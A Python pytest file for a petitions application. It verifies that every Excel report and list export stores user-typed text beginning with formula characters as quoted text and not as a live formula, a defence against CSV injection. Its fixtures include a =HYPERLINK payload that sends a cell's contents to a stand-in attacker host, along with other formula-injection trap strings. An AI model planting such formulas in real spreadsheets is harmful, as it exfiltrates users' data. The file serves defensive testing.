"""Every Excel export writes what people typed as text, never as a formula (OWASP "CSV injection"): a
summary, a place, an agency's name or a return reason starting with =, +, -, @, a tab or a carriage return
arrives as a string cell with Excel's quote prefix, in every kind of workbook the app produces."""
from __future__ import annotations

import io
import zipfile
from datetime import date

import pytest
from openpyxl import load_workbook

from app.extensions import db
from app.services.petitions import answers
from tests.conftest import AuthActions

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2,"Xem")'
TRAPS = [HYPERLINK, "+84 912 345 678", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def formula_like(value) -> bool:
    # (A cell written with a leading CR reads back with LF: XML normalises line ends.)
    return isinstance(value, str) and value[:1] in ("=", "+", "-", "@", "\t", "\r", "\n")


@pytest.fixture
def trapped(build):
    """Items whose typed text starts like a formula, reaching every report: summaries, places, an agency
    name, a return reason (the committee's item sheet shows it in the history)."""
    build.agency.name = "@Sở Xây dựng"
    items = []
    for i, trap in enumerate(TRAPS):
        p = build.petition("transferred", transfer_on=date(2026, 9, 1) if i % 2 else None)
        p.summary, p.locality = trap, TRAPS[(i + 1) % len(TRAPS)]
        items.append(p)
    returned = build.petition("transferred")
    answers.return_not_competent(build.agency_leader, returned, reason=HYPERLINK)
    db.session.commit()
    return items, returned


def cells(data: bytes):
    book = load_workbook(io.BytesIO(data))
    return [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]


def assert_text_only(data: bytes, expected: str | None = None):
    found = [c for c in cells(data) if formula_like(c.value)]
    assert found, "no formula-like text reached this export: the test would prove nothing"
    assert all(c.data_type == "s" and c.quotePrefix for c in found), [(c.coordinate, c.value) for c in found
                                                                       if c.data_type != "s" or not c.quotePrefix]
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheets = [z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert not any(b"<f>" in s or b"<f " in s for s in sheets)  # no formula element anywhere
    if expected is not None:
        assert any(c.value == expected for c in found)


@pytest.mark.parametrize("kind", ["results", "compilation", "overdue", "agency"])
def test_report_workbooks_write_typed_text_as_text(client, build, trapped, kind):
    AuthActions(client).login(build.committee)
    response = client.get(f"/reports/download?kind={kind}&format=xlsx&session={build.session2.id}")
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    assert_text_only(response.data)


def test_the_item_workbook_keeps_a_return_reason_a_text(client, build, trapped):
    _, returned = trapped
    AuthActions(client).login(build.committee)
    response = client.get(f"/reports/download?kind=item&format=xlsx&code={returned.code}")
    assert response.status_code == 200
    assert_text_only(response.data, HYPERLINK)


def test_the_list_export_writes_typed_text_as_text(client, build, trapped):
    AuthActions(client).login(build.clerk)
    response = client.get("/reports/export/petitions.xlsx")
    assert response.status_code == 200
    assert_text_only(response.data, HYPERLINK)


def test_plain_text_and_numbers_are_left_alone(client, build, trapped):
    AuthActions(client).login(build.clerk)
    plain = [c for c in cells(client.get("/reports/export/petitions.xlsx").data)
             if isinstance(c.value, str) and not formula_like(c.value)]
    assert plain and not any(c.quotePrefix for c in plain)

